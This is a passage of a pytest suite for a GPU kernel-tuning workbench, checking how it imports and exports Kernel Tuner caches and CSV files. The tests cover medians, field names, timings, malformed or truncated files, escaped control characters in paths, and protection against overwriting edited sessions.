        assert figures(back, name) == figures(session, name), name


def test_an_export_of_imported_trials_carries_their_medians_so_a_file_read_back_ranks_the_same(tmp_path: Path) -> None:
    """The session ranks by the repetitions' median, which the format has no field for: a file
    read back ranked by Kernel Tuner's mean and could recommend another config. The median and
    percentiles go beside `time` (which stays Kernel Tuner's own figure), and an import reads them
    back; it writes no ``compile_s`` of its own (the record's ``compile_time`` is that figure),
    which a re-import called "computed from the record's times"."""
    data = synthetic(False)
    records = list(data["cache"].values())
    records[0]["times"], records[0]["time"] = [1.0, 1.0, 1.0, 7.0], 2.5  # median 1.0, mean 2.5
    records[1]["times"], records[1]["time"] = [2.0, 2.0, 2.0], 2.0
    for record in records:
        record["compile_time"] = 120.0
    session = import_kt_cache(write(tmp_path, data))
    notes: list[str] = []
    assert export_kt_cache(session, tmp_path / "out.json", notes) == len(records)
    assert notes == []
    written = json.loads((tmp_path / "out.json").read_text())["cache"]
    first = written[",".join(str(v) for v in session.trials[0].config.values())]
    assert first["time"] == 2.5 and first["workbench_latency_ms"] == 1.0  # Kernel Tuner's figure stays its own
    assert all("compile_s" not in record for record in written.values())
    assert sum("workbench_latency_ms" in record for record in written.values()) == 2  # repetitions, then none
    read_notes: list[str] = []
    back = import_kt_cache(tmp_path / "out.json", read_notes)
    assert not any("compile_s" in note for note in read_notes)
    assert back.trials[0].metric("compile_s") == pytest.approx(0.12)
    for name in ("latency_ms", "kt_time_ms", "latency_p20_ms", "latency_p80_ms"):
        assert figures(back, name) == figures(session, name), name
    assert not any(name.startswith("workbench") for t in back.trials for name in t.measurement.metrics)
    # what was carried is read as a time or not at all: the record's `time` stands otherwise, and
    # repetitions in the record win over it
    for carried, latency in ((-1.0, 2.5), ("1.0", 2.5), (float("nan"), 2.5), (0.5, 0.5)):
        doc = json.loads((tmp_path / "out.json").read_text(), parse_constant=float)
        doc["cache"][next(iter(doc["cache"]))]["workbench_latency_ms"] = carried
        (tmp_path / "edited.json").write_text(json.dumps(doc))
        assert import_kt_cache(tmp_path / "edited.json").trials[0].metric("latency_ms") == latency, carried
    doc["cache"][next(iter(doc["cache"]))]["times"] = [3.0, 3.0, 3.0]
    (tmp_path / "edited.json").write_text(json.dumps(doc))
    assert import_kt_cache(tmp_path / "edited.json").trials[0].metric("latency_ms") == 3.0


def test_a_kt_cache_export_keeps_a_benchmarks_own_timing_named_metrics(tmp_path: Path) -> None:
    """Only compile_s is written as a Kernel Tuner timing field alone (an import reads it back from
    compile_time); a benchmark's own ``benchmark_s`` beside the worker's timing was dropped."""
    session = Session(kernel="k", trials=[Trial(0, Config({"x": 1}), Measurement(
        Status.OK, {"latency_ms": 1.0, "benchmark_s": 8.5, "compile_s": 0.25}), 0.0, 1.0,
        {"benchmark_s": 0.5, "compile_s": 0.25})])
    export_kt_cache(session, tmp_path / "out.json")
    (record,) = json.loads((tmp_path / "out.json").read_text())["cache"].values()
    assert record["benchmark_s"] == 8.5 and record["benchmark_time"] == 500.0
    assert "compile_s" not in record and record["compile_time"] == 250.0


def test_a_kt_cache_export_writes_each_metric_under_the_field_name_it_was_imported_from(tmp_path: Path) -> None:
    """A figure imported under another name (``GFLOPS/W`` as ``gflops_w``) went back out under ours,
    while the file's objective still named ``GFLOPS/W``: Kernel Tuner looks that field up in every
    record, and found none. A session edited to map a metric to a name that would not read back as
    it is written under its own name."""
    cache = synthetic(False)
    cache["objective"] = "GFLOPS/W"
    for i, record in enumerate(cache["cache"].values()):
        if isinstance(record["time"], float):
            record.update({"GFLOPS/W": 10.0 + i, "Energy_J": 2.0})
    session = import_kt_cache(write(tmp_path, cache))
    assert session.trials[0].metric("gflops_w") == 10.0 and session.trials[0].metric("energy_j") == 2.0
    export_kt_cache(session, tmp_path / "out.json")
    written = json.loads((tmp_path / "out.json").read_text())
    assert written["objective"] == "GFLOPS/W"
    ok = [r for r in written["cache"].values() if not isinstance(r["time"], str)]
    assert ok and all(r["GFLOPS/W"] >= 10.0 and r["Energy_J"] == 2.0 and "gflops_w" not in r for r in ok), ok
    again = import_kt_cache(tmp_path / "out.json")
    assert again.trials[0].metric("gflops_w") == 10.0 and again.trials[0].metric("energy_j") == 2.0

    session.extra["kernel_tuner"]["metric_fields"] = {"gflops_w": "time", "energy_j": ["x"], "latency_ms": "x"}
    export_kt_cache(session, tmp_path / "edited.json")
    ok = [r for r in json.loads((tmp_path / "edited.json").read_text())["cache"].values() if not isinstance(r["time"], str)]
    assert all(r["gflops_w"] >= 10.0 and r["energy_j"] == 2.0 for r in ok), ok


def test_a_replay_exported_as_a_cache_keeps_its_recordings_objective_field_names_and_times(tmp_path: Path,
                                                                                          cli) -> None:
    """A replay of a cache tuned for GFLOPS/W went out as `objective: time` with our field names
    (gflops_w), its failures without the objective's field (Kernel Tuner's first look-up, a
    KeyError there), and every record stamped with the replay's time."""
    cache = synthetic(False)
    cache["objective"] = "GFLOPS/W"
    for i, record in enumerate(cache["cache"].values()):
        if isinstance(record["time"], float):
            record.update({"GFLOPS/W": 10.0 + i})
        else:
            record["GFLOPS/W"] = record["time"]
    recording = write(tmp_path, cache)
    assert cli("tune", "--replay", recording, "--strategy", "grid", "--budget", "5", "--quiet",
               "--out", tmp_path / "r.json").returncode == 0
    assert cli("export", tmp_path / "r.json", "--format", "kt-cache", "--out", tmp_path / "r_kt.json").returncode == 0
    written = json.loads((tmp_path / "r_kt.json").read_text())
    assert written["objective"] == "GFLOPS/W"
    records = list(written["cache"].values())
    ok = [r for r in records if not isinstance(r["time"], str)]
    failed = [r for r in records if isinstance(r["time"], str)]
    assert ok and all("GFLOPS/W" in r and "gflops_w" not in r for r in ok), ok
    assert failed and all(r["GFLOPS/W"] == r["time"] for r in failed), failed
    assert written["cache"]["32,1,0"]["timestamp"] == "2024-01-02 03:04:05+00:00"  # the recording's, not today
    assert "timestamp" not in written["cache"]["64,1,0"]  # recorded without one: none, not the replay's
    assert load_session(tmp_path / "r.json").extra.get("kernel_tuner") is None  # a replay is no import of it
    # a replay of the replay: still when the recording measured them, not when the first replay ran
    assert cli("tune", "--replay", tmp_path / "r.json", "--strategy", "grid", "--budget", "5", "--quiet",
               "--out", tmp_path / "rr.json").returncode == 0
    assert cli("export", tmp_path / "rr.json", "--format", "kt-cache", "--out", tmp_path / "rr_kt.json").returncode == 0
    again = json.loads((tmp_path / "rr_kt.json").read_text())["cache"]
    assert again["32,1,0"]["timestamp"] == "2024-01-02 03:04:05+00:00" and "timestamp" not in again["64,1,0"]


def test_every_record_carries_every_timing_kernel_tuner_writes(tmp_path: Path) -> None:
    """A session of ours went out without verification_time, strategy_time and framework_time:
    Kernel Tuner's simulation mode adds the timings up, and failed on such a cache."""
    space = SearchSpace([Slot("block", (32, 64), "launch")])
    session = Session(kernel="k", space=space, device={"name": "A100", "simulated": False})
    session.add(Trial(0, space.config({"block": 32}), Measurement(Status.OK, {"latency_ms": 1.0},
                                                                  details={"recorded_at": True}), 0.0, 1.0,
                      timings={"compile_s": 0.25}))
    session.add(Trial(1, space.config({"block": 64}), Measurement.failure(Status.RUNTIME_ERROR, "x"), 0.0, 1.0))
    export_kt_cache(session, tmp_path / "out.json")
    assert "timestamp" not in json.loads((tmp_path / "out.json").read_text())["cache"]["32"]  # true is no time
    timed, untimed = json.loads((tmp_path / "out.json").read_text())["cache"].values()
    timings = ("compile_time", "verification_time", "benchmark_time", "strategy_time", "framework_time")
    assert {name: timed[name] for name in timings} == {"compile_time": 250.0, "verification_time": 0.0,
                                                       "benchmark_time": 0.0, "strategy_time": 0.0,
                                                       "framework_time": 0.0}
    # a trial without timings gets none: a compile time of 0 read back as a figure to rank by
    assert not set(timings) & set(untimed)
    again = import_kt_cache(tmp_path / "out.json")
    assert [t.metric("compile_s") for t in again.trials][:1] == [0.25] and not again.trials[1].timings
    fields = ("compile_time", "verification_time", "benchmark_time", "strategy_time", "framework_time")
    # a failure with phases timed has all five, its compile time 0 too (an import reads a failure's
    # figures as no measurement to rank by); one timed as a whole alone (a timeout) has none: zeros
    # read back as its time
    session.trials[1] = Trial(1, space.config({"block": 64}), Measurement.failure(Status.RUNTIME_ERROR, "x"), 0.0,
                              1.0, timings={"benchmark_s": 0.5})
    export_kt_cache(session, tmp_path / "failed.json")
    record = json.loads((tmp_path / "failed.json").read_text())["cache"]["64"]
    assert {name: record[name] for name in fields} == {"compile_time": 0.0, "verification_time": 0.0,
                                                        "benchmark_time": 500.0, "strategy_time": 0.0,
                                                        "framework_time": 0.0}
    assert "compile_s" not in import_kt_cache(tmp_path / "failed.json").trials[1].measurement.metrics
    session.trials[1] = Trial(1, space.config({"block": 64}), Measurement.failure(Status.TIMEOUT, "x"), 0.0, 1.0,
                              timings={"total_s": 10.0})
    export_kt_cache(session, tmp_path / "timeout.json")
    assert not set(fields) & set(json.loads((tmp_path / "timeout.json").read_text())["cache"]["64"])


def _named_like_fields_session(slots: dict[str, tuple], metrics: dict[str, float]) -> Session:
    space = SearchSpace([Slot(name, values, "launch") for name, values in slots.items()])
    session = Session(kernel="k", space=space, device={"name": "A100", "simulated": False})
    for i, values in enumerate(zip(*slots.values())):
        config = space.config(dict(zip(slots, values)))
        session.add(Trial(i, config, Measurement(Status.OK, {"latency_ms": 1.0 + i, **metrics}), 0.0, 1.0))
    return session


@pytest.mark.parametrize("slot", ["time", "timestamp", "compile_time"])
def test_a_kt_cache_export_refuses_a_slot_named_like_a_record_field(tmp_path: Path, slot: str) -> None:
    """Slot values and measurements share a record: a slot named ``time`` had its values replaced
    by the latencies (read back, ``time`` took values it never had), ``compile_time`` came back as
    a compile timing, ``timestamp`` made the file unreadable."""
    session = _named_like_fields_session({slot: (5, 6), "block": (1, 2)}, {})
    with pytest.raises(WorkbenchError, match=f"slot '{slot}' has the name of a field of every Kernel Tuner record"):
        export_kt_cache(session, tmp_path / "out.json")
    assert not (tmp_path / "out.json").exists()


def test_a_kt_cache_export_says_which_metrics_have_no_field_of_their_own(tmp_path: Path) -> None:
    """A metric named like a slot was dropped without a word (and one named ``times`` or
    ``timestamp`` took that field's place)."""
    session = _named_like_fields_session({"mode": (1, 2)}, {"mode": 7.0, "times": 3.0, "energy_j": 2.0})
    notes: list[str] = []
    export_kt_cache(session, tmp_path / "out.json", notes)
    record = json.loads((tmp_path / "out.json").read_text())["cache"]["1"]
    assert record["mode"] == 1 and "times" not in record and record["energy_j"] == 2.0
    assert notes == ["metric 'mode' is not in the file: its name is a slot's",
                     "metric 'times' is not in the file: its name is a Kernel Tuner record field's"]
    back = import_kt_cache(tmp_path / "out.json")
    assert sorted(t.config["mode"] for t in back.trials) == [1, 2]


@pytest.mark.parametrize("problem, size, said", [
    ({"rows": 16384, "cols": 1024, "eps": 1e-05}, [16384, 1024], "problem parameter eps=1e-05 is not in the file"),
    ({"n": 4096, "hot_fraction": 0.25, "exact": True}, 4096,
     "problem parameters hot_fraction=0.25, exact=True are not in the file"),
    ({"problem_size_x": 64, "problem_size_y": 32}, [64, 32], None),
])
def test_a_kt_cache_export_says_which_problem_parameters_it_cannot_hold(tmp_path: Path, problem, size,
                                                                       said) -> None:
    """Kernel Tuner's problem_size holds sizes: a template's tolerance or fraction was dropped
    without a word, and the file read back was a problem without it."""
    session = _named_like_fields_session({"block": (1, 2)}, {})
    session.problem = problem
    notes: list[str] = []
    export_kt_cache(session, tmp_path / "out.json", notes)
    assert json.loads((tmp_path / "out.json").read_text())["problem_size"] == size
    assert notes == ([f"{said}: Kernel Tuner's problem_size holds sizes only"] if said else [])


def test_every_csv_heading_is_different_and_renames_are_said(tmp_path: Path) -> None:
    """A slot or metric named like a fixed column, or a slot and a metric of one name, gave two
    columns of one heading, and a reader keying rows by heading kept only one of them."""
    session = _named_like_fields_session({"status": (1, 2), "id": (7, 8), "mode": (0, 1)},
                                         {"index": 99.0, "message": 5.0, "mode": 3.0})
    notes: list[str] = []
    export_csv(session, tmp_path / "t.csv", notes)
    with open(tmp_path / "t.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["index", "id", "status", "slot.status", "slot.id", "slot.mode", "latency_ms",
                             "metric.index", "metric.message", "metric.mode", "message", "provenance"]
    assert rows[0]["index"] == "0" and rows[0]["status"] == "ok" and rows[0]["slot.status"] == "1"
    assert rows[1]["slot.id"] == "8" and rows[1]["metric.index"] == "99.0" and rows[1]["message"] == ""
    assert rows[0]["slot.mode"] == "0" and rows[0]["metric.mode"] == "3.0"
    assert notes[0] == "column 'slot.status' is the slot 'status' (its name is another column's)"
    assert len(notes) == 6


def test_export_says_a_renamed_column_and_a_refused_slot_in_one_line_each(tmp_path: Path, cli) -> None:
    session = _named_like_fields_session({"time": (1, 2)}, {})
    save_session(session, tmp_path / "s.json")
    result = cli("export", tmp_path / "s.json", "--format", "csv", "--out", tmp_path / "t.csv")
    assert result.returncode == 0 and "note: column 'slot.time' is the slot 'time'" not in result.stderr
    session = _named_like_fields_session({"status": (1, 2)}, {})
    save_session(session, tmp_path / "s2.json")
    result = cli("export", tmp_path / "s2.json", "--format", "csv", "--out", tmp_path / "t2.csv")
    assert result.returncode == 0 and "note: column 'slot.status' is the slot 'status'" in result.stderr
    result = cli("export", tmp_path / "s.json", "--format", "kt-cache", "--out", tmp_path / "c.json")
    assert result.returncode == 2 and result.stderr.count("\n") == 1 and "slot 'time' has the name" in result.stderr
    assert not (tmp_path / "c.json").exists()


def test_the_line_naming_where_an_export_went_sends_no_control_characters(tmp_path: Path, cli) -> None:
    """Error lines escaped a path's control characters, the success line printed them raw: a
    newline broke it, an escape sequence reached the terminal."""
    save_session(_named_like_fields_session({"x": (1, 2)}, {}), tmp_path / "s.json")
    for fmt in ("csv", "kt-cache"):
        out = tmp_path / f"o\nut\x1b[1m.{fmt}"
        result = cli("export", tmp_path / "s.json", "--format", fmt, "--out", out)
        assert result.returncode == 0 and out.exists()
        assert result.stdout.count("\n") == 1 and "\x1b" not in result.stdout and "o\\nut\\x1b[1m" in result.stdout
    result = cli("import-kt", tmp_path / "o\nut\x1b[1m.kt-cache", "--out", tmp_path / "i\x1b.json")
    assert result.returncode == 0 and "\x1b" not in result.stdout and "i\\x1b.json" in result.stdout


def test_a_cache_whose_session_could_not_be_opened_again_is_refused(tmp_path: Path) -> None:
    data = synthetic(False)
    data["problem_size"] = list(range(1, 1001))  # load_session allows 64 problem parameters
    with pytest.raises(SessionFormatError) as info:
        import_kt_cache(write(tmp_path, data))
    assert "problem_size: 1,000 parameters is more than the 64 allowed" in str(info.value)
    assert "\n" not in str(info.value)
    data["problem_size"] = list(range(1, 65))  # at the limit: imports, saves and opens again
    save_session(import_kt_cache(write(tmp_path, data)), tmp_path / "s.json")
    assert len(load_session(tmp_path / "s.json").problem) == 64


def test_the_header_of_an_import_passes_the_session_loader(tmp_path: Path, monkeypatch) -> None:
    """Whatever the loader refuses in a header, the import refuses too (here a notes text that
    the loader would find too long), so an import that succeeds always opens again."""
    monkeypatch.setattr("workbench.core.domain.session.MAX_TEXT_CHARS", 10)
    with pytest.raises(SessionFormatError, match="notes: .* more than the 10 kept"):
        import_kt_cache(write(tmp_path, synthetic(False)))


def test_hostile_repetition_times_give_no_spread_the_loader_would_refuse(tmp_path: Path) -> None:
    data = synthetic(False)
    data["cache"]["32,1,0"]["times"] = [-1.7e308, 1.7e308]  # their spread would overflow to inf
    session = import_kt_cache(write(tmp_path, data))
    metrics = session.trials[0].measurement.metrics
    assert all(math.isfinite(v) for v in metrics.values())
    save_session(session, tmp_path / "s.json")
    assert load_session(tmp_path / "s.json").trials[0].measurement.metrics == metrics


@pytest.mark.parametrize("field", ["latency_ms", "latency-ms", "latency_p20_ms", "Latency P80 ms", "kt_time_ms", "KT time ms"])
def test_record_fields_never_replace_the_derived_times(tmp_path: Path, field: str) -> None:
    data = synthetic(False)
    data["cache"]["32,1,0"][field] = 0.001
    data["cache"]["64,1,0"][field] = 0.001  # no repetitions: still not a spread
    trials = import_kt_cache(write(tmp_path, data)).trials
    assert trials[0].metric("latency_ms") == 2.0 and trials[1].metric("latency_ms") == 1.0
    assert trials[0].metric("kt_time_ms") == 2.0 and trials[1].metric("kt_time_ms") == 1.0
    assert trials[0].metric("latency_p20_ms") == pytest.approx(1.88)
    assert trials[0].metric("latency_p80_ms") == pytest.approx(2.12)
    assert "latency_p20_ms" not in trials[1].measurement.metrics
    assert "latency_p80_ms" not in trials[1].measurement.metrics


def test_the_first_record_field_of_a_metric_name_wins(tmp_path: Path) -> None:
    data = synthetic(False)
    data["cache"]["32,1,0"].update({"memory_mb": 64.0, "Memory MB": 0.5})
    assert import_kt_cache(write(tmp_path, data)).trials[0].metric("memory_mb") == 64.0


@pytest.mark.parametrize("error", [False, "", None, 0])
def test_an_empty_error_next_to_a_time_is_no_error(tmp_path: Path, error) -> None:
    data = synthetic(True)
    data["cache"]["32,1,0"]["__error__"] = error
    trial = import_kt_cache(write(tmp_path, data)).trials[0]
    assert trial.ok and trial.metric("latency_ms") == 2.0


def test_an_error_name_or_a_failure_mark_without_a_time_still_counts(tmp_path: Path) -> None:
    data = synthetic(True)
    data["cache"]["32,1,0"]["__error__"] = "RuntimeFailedConfig"  # the name wins over a time
    data["cache"]["64,1,0"].pop("time")
    data["cache"]["64,1,0"]["__error__"] = True  # no time to go on: a failure all the same
    data["cache"]["128,4,0"]["__error__"] = ""
    trials = import_kt_cache(write(tmp_path, data)).trials
    assert trials[0].status is Status.RUNTIME_ERROR and trials[0].measurement.message == "RuntimeFailedConfig"
    assert trials[1].status is Status.RUNTIME_ERROR and trials[1].measurement.message == "True"
    assert trials[4].status is Status.RUNTIME_ERROR  # with a reason: an empty one left the log's line blank
    assert trials[4].measurement.message == "Kernel Tuner recorded a failure without naming it (__error__ '')"


def test_a_flag_and_a_number_in_one_parameter_are_named_as_mixed_types(tmp_path: Path) -> None:
    """True == 1 in Python: the domain kept only one of them and then refused the other's record
    as "not allowed"; the real problem, one parameter of two types, is what gets said."""
    data = {"kernel_name": "k", "tune_params_keys": ["b"], "tune_params": {"b": [True, 1]},
            "cache": {"1": {"b": 1, "time": 1.0}, "True": {"b": True, "time": 2.0}}}
    with pytest.raises(SessionFormatError, match=r"slot b: values mix types \(bool, int\)"):
        import_kt_cache(write(tmp_path, data))


@pytest.mark.parametrize("field", ["time", "__error__"])
@pytest.mark.parametrize("text", ["46.268736", " 2 ", "1e-3", "-0.5", "inf", "NaN"])
def test_a_number_written_as_text_is_refused_naming_the_record(tmp_path: Path, field: str, text: str) -> None:
    """Kernel Tuner writes a time as a JSON number and a failure as an error name; a numeric string
    was read as a failure whose reason was the number, so a file of them imported as all-failed."""
    cache = synthetic(new_style=False)
    cache["cache"]["64,1,0"].pop("time")
    cache["cache"]["64,1,0"][field] = text
    with pytest.raises(SessionFormatError) as info:
        import_kt_cache(write(tmp_path, cache))
    message = str(info.value)
    assert "\n" not in message and f"cache['64,1,0'].{field}" in message and "number written as text" in message


@pytest.mark.parametrize("name", ["InvalidConfig", "CompilationFailedConfig", "RuntimeFailedConfig", "ErrorConfig"])
def test_every_error_name_kernel_tuner_writes_is_a_failure(tmp_path: Path, name: str) -> None:
    """Kernel Tuner's error classes (``kernel_tuner.util``): ``ErrorConfig`` is their base, written
    for a failure it does not name further."""
    cache = synthetic(new_style=False)
    cache["cache"]["64,1,0"]["time"] = name
    trial = import_kt_cache(write(tmp_path, cache)).trials[1]
    assert trial.status is not Status.OK and trial.measurement.message == name


def fewer_keys_cache() -> dict:
    """A cache whose ``tune_params_keys`` and ``tune_params`` lack ``use_shmem``, which the records carry."""
    cache = synthetic(new_style=True)
    cache["tune_params_keys"] = ["block_size_x", "tile"]
    del cache["tune_params"]["use_shmem"]
    return cache


def test_a_key_with_more_values_than_tune_params_keys_is_refused(tmp_path: Path) -> None:
    """Keys of three values under two named parameters merged distinct configs into one point and
    read the third parameter as a metric."""
    with pytest.raises(SessionFormatError) as info:
        import_kt_cache(write(tmp_path, fewer_keys_cache()))
    message = str(info.value)
    assert "\n" not in message and "cache['32,1,0']" in message
    assert "3 comma-separated values" in message and "names 2 parameters" in message


def test_records_of_one_point_with_different_parameter_values_are_refused(tmp_path: Path) -> None:
    cache = fewer_keys_cache()
    cache["cache"] = {
        "32,1": {"block_size_x": 32, "tile": 1, "use_shmem": 0, "time": 2.0, "GFLOP/s": 100.0},
        "64,1": {"block_size_x": 64, "tile": 1, "use_shmem": 0, "time": 1.0},
        "32, 1": {"block_size_x": 32, "tile": 1, "use_shmem": 1, "time": 3.0, "GFLOP/s": 70.0},
    }
    with pytest.raises(SessionFormatError) as info:
        import_kt_cache(write(tmp_path, cache))
    message = str(info.value)
    assert "\n" not in message and "cache['32,1'] and cache['32, 1']" in message and "'use_shmem' (0 vs 1)" in message


def test_a_field_named_in_tune_params_is_never_a_metric(tmp_path: Path) -> None:
    """``tune_params`` declares ``use_shmem`` though ``tune_params_keys`` leaves it out: still a parameter."""
    cache = synthetic(new_style=True)
    cache["tune_params_keys"] = ["block_size_x", "tile"]
    cache["cache"] = {f"{k.rsplit(',', 1)[0]}": v for k, v in cache["cache"].items()}
    session = import_kt_cache(write(tmp_path, cache))
    assert all("use_shmem" not in t.measurement.metrics for t in session.trials)
    assert "gflops" in session.trials[0].measurement.metrics


def test_import_kt_says_on_stderr_what_it_repaired_or_added(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Closing an unfinished file and widening a parameter's declared values changed what was read
    without a word; each is now a note on stderr, and a clean file gets none."""
    from workbench.cli import main as cli_main

    assert cli_main(["import-kt", str(write(tmp_path, synthetic(True), "clean.json")), "--out", str(tmp_path / "a.json")]) == 0
    assert capsys.readouterr().err == ""
    data = synthetic(True)
    data["cache"]["256,1,0"] = {"block_size_x": 256, "tile": 1, "use_shmem": 0, "time": 0.5}
    data["cache"]["512,1,0"] = {"block_size_x": 512, "tile": 1, "use_shmem": 0, "time": 0.4}
    unfinished = json.dumps(data, indent=1).rstrip()[: -len("}\n}")].rstrip() + ","
    cache = write(tmp_path, unfinished, "running.json")
    assert cli_main(["import-kt", str(cache), "--out", str(tmp_path / "b.json")]) == 0
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 2 and all(line.startswith("note: ") for line in err)
    assert "unfinished" in err[0] and "read the 7 complete records" in err[0]
    assert "added 2 parameter values" in err[1] and "block_size_x: 256, 512" in err[1]


def test_fields_left_out_of_the_metrics_are_named_on_import_and_on_replay(cli, tmp_path: Path) -> None:
    """Two fields that are one metric (``GFLOP/s`` and ``gflops``) kept the first and dropped the
    other without a word, as did a negative amount and a list of readings; a python benchmark
    refuses the first outright."""
    data = synthetic(True)
    for number, record in enumerate(data["cache"].values()):
        if isinstance(record.get("time"), (int, float)):
            record.update({"GFLOP/s": 100.0 + number, "gflops": 1.0, "registers": -3, "latency_ms": 99.0,
                           "nvml_powers": [250.0, 251.0]})  # (an observer's readings, save_all=True)
    cache = write(tmp_path, data, "both.json")
    done = cli("import-kt", cache, "--out", tmp_path / "s.json")
    assert done.returncode == 0
    (note,) = done.stderr.splitlines()
    assert note.startswith("note: ") and "'gflops': the field 'GFLOP/s' is the metric gflops already" in note
    assert "'registers': negative (-3), which registers cannot be" in note
    assert "'latency_ms': latency_ms is computed from the record's time and times" in note
    assert "'nvml_powers': a list of values, not one number" in note
    session = json.loads((tmp_path / "s.json").read_text())
    ok = [t for t in session["trials"] if t["status"] == "ok"]
    assert ok and all(t["metrics"]["gflops"] >= 100 and "registers" not in t["metrics"] for t in ok)
    replayed = cli("tune", "--replay", cache, "--budget", "1", "--quiet", "--out", tmp_path / "r.json")
    assert replayed.returncode == 0 and "warning: recording " in replayed.stderr
    assert "'gflops': the field 'GFLOP/s'" in replayed.stderr


def test_the_recorded_compile_time_is_a_metric_to_constrain_too(cli, tmp_path: Path) -> None:
    """It was kept as a timing only, so `--constraint compile_s<=...` on a recording was refused as
    a metric no trial reports."""
    cache = Path(__file__).parent / "fixtures" / "kt_cache_small.json"
    session = import_kt_cache(cache)
    first = session.trials[0]
    assert first.metric("compile_s") == pytest.approx(first.timings["compile_s"]) == pytest.approx(0.21)
    out = tmp_path / "r.json"
    done = cli("tune", "--replay", cache, "--constraint", "compile_s<=0.2", "--budget", "6", "--quiet", "--out", out)
    assert done.returncode == 0, done.stderr
    replayed = load_session(out)
    assert all(math.isfinite(t.metric("compile_s")) for t in replayed.trials if t.ok)


def test_a_parameter_of_many_declared_values_imports_in_linear_time(tmp_path: Path) -> None:
    """Each declared value was looked up by a scan of those before it: 30,000 values of one
    parameter took 69 s to import, 300,000 never finished. 50,000 now take well under a second."""
    import time

    values = list(range(50_000))
    cache = {
        "device_name": "GPU", "kernel_name": "k", "problem_size": [1], "objective": "time",
        "tune_params_keys": ["block", "flag"], "tune_params": {"block": values + [7, 7.0], "flag": [True, False, True]},
        "cache": {"3,True": {"block": 3, "flag": True, "time": 1.5}, "4,False": {"block": 4, "flag": False, "time": 2.5}},
    }
    path = tmp_path / "c.json"
    path.write_text(json.dumps(cache))
    started = time.perf_counter()
    session = import_kt_cache(path)
    assert time.perf_counter() - started < 15
    block, flag = session.space.slots
    assert len(block.values) == 50_000  # 7 and 7.0 are one value, as == has them
    assert flag.values == (True, False)
    assert [(t.config["block"], t.config["flag"]) for t in session.trials] == [(3, True), (4, False)]


def test_import_kt_replaces_an_earlier_import_but_not_a_replayed_run(tmp_path: Path, cli) -> None:
    """A replayed run is a session of recorded trials too, but its strategy, budget and flags are a
    run's own: import-kt replaced it silently, with no backup."""
    cache = write(tmp_path, synthetic(True))
    imported = tmp_path / "imported.json"
    first = cli("import-kt", str(cache), "--out", str(imported))
    assert first.returncode == 0 and "replaced" not in first.stdout
    again = cli("import-kt", str(cache), "--out", str(imported))  # an earlier import: replaced, and said
    assert again.returncode == 0
    assert again.stdout.splitlines()[-1] == "replaced the earlier import there (5 trials of vector_add on NVIDIA Test GPU)"
    replayed = tmp_path / "replayed.json"
    assert cli("tune", "--replay", str(imported), "--budget", "5", "--out", str(replayed)).returncode == 0
    before = replayed.read_bytes()
    refused = cli("import-kt", str(cache), "--out", str(replayed))
    assert refused.returncode != 0 and "--force" in refused.stderr and replayed.read_bytes() == before


def _edited(doc: dict, edit: str) -> None:
    """One change a person may make to an imported session, in the window or by hand."""
    if edit in ("notes", "more notes", "constraints", "weights"):
        doc.update({"notes": {"notes": "three hours of analysis"}, "more notes": {"notes": doc["notes"] + " Alice: ship 3."},
                    "constraints": {"constraints": {"max_latency_ms": 1.3}},
                    "weights": {"weights": {"latency_ms": 1.0, "quality": 2.0}}}[edit])
    elif edit == "kernel":
        doc["kernel"] = "vector_add_renamed"
    elif edit == "extra":
        doc["extra"]["my_analysis"] = "three days of work"
    elif edit == "baseline":
        doc["baselines"] = {"cub": {"latency_ms": 0.5}}
    elif edit == "trial message":
        doc["trials"][0]["message"] = "checked by hand: GOOD"
    else:  # written before imports carried their digest: whether it was changed cannot be told
        assert edit == "no digest"
        del doc["extra"]["kernel_tuner"]["digest"]


@pytest.mark.parametrize("edit", ["notes", "more notes", "constraints", "weights", "kernel", "extra", "baseline",
                                  "trial message", "no digest"])
def test_import_kt_does_not_replace_an_import_a_person_has_worked_on(tmp_path: Path, cli, edit: str) -> None:
    """An import a person changed in any field (in the window, or by hand) is their work: import-kt
    replaced it silently, of another kernel too, and the work was gone (it compared only the notes,
    constraints and weights)."""
    cache = write(tmp_path, synthetic(True))
    imported = tmp_path / "imported.json"
    assert cli("import-kt", str(cache), "--out", str(imported)).returncode == 0
    doc = json.loads(imported.read_text())
    _edited(doc, edit)
    imported.write_text(json.dumps(doc))
    load_session(imported)  # still a session: refused as a changed import, not as something else
    before = imported.read_bytes()
    refused = cli("import-kt", str(cache), "--out", str(imported))
    assert refused.returncode == 2 and "--force" in refused.stderr and imported.read_bytes() == before
    assert "an earlier import that was changed since it was imported" in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1
    assert cli("import-kt", str(cache), "--out", str(imported), "--force").returncode == 0
    assert (tmp_path / "imported.json.bak").read_bytes() == before

def test_export_does_not_write_where_a_killed_runs_journal_waits(tmp_path: Path, cli) -> None:
    """With only a killed run's journal at a path, export wrote its file there: the journal's trials
    could then neither be shown nor resumed (the file is no session)."""
    from workbench.core.domain.session import journal_path

    cache = write(tmp_path, synthetic(True))
    session = tmp_path / "s.json"
    assert cli("import-kt", str(cache), "--out", str(session)).returncode == 0
    waiting = tmp_path / "run.json"
    journal_path(waiting).write_text("")
    refused = cli("export", str(session), "--format", "json", "--out", str(waiting))
    assert refused.returncode != 0 and "journal of a run is beside it" in refused.stderr and not waiting.exists()
    assert "tune --resume recovers them first" in refused.stderr
    # a run still writing it: said as such, not sent to a --resume that its lock would refuse
    from workbench.core.io.session_lock import SessionLock

    with SessionLock(waiting):
        refused = cli("export", str(session), "--format", "json", "--out", str(waiting), "--force")
    assert "a run writing that session is going" in refused.stderr and "tune --resume" not in refused.stderr


def test_a_negative_recorded_duration_is_left_out_not_imported(tmp_path: Path) -> None:
    """``compile_time: -5`` became ``compile_s = -0.005`` and a negative total, while a negative
    kernel time is refused: no duration is negative."""
    from workbench.core.io.interop import import_kt_cache

    data = synthetic(True)
    data["cache"]["64,1,0"]["compile_time"] = -5.0
    session = import_kt_cache(write(tmp_path, data), [])
    trial = next(t for t in session.trials if t.config["block_size_x"] == 64 and t.config["tile"] == 1)
    assert "compile_s" not in trial.timings and "compile_s" not in trial.measurement.metrics
    assert all(v >= 0 for t in session.trials for v in t.timings.values())


def test_a_replay_of_a_cut_cache_says_what_was_left_out_as_import_does(tmp_path: Path, cli) -> None:
    """import-kt said a record was left out of a cut cache; tune --replay of the same file said
    nothing, so the recording looked whole."""
    text = _as_kernel_tuner_writes_it(synthetic(False))
    cut = write(tmp_path, text[: text.rstrip().rfind("\n") + 12], "killed.json")
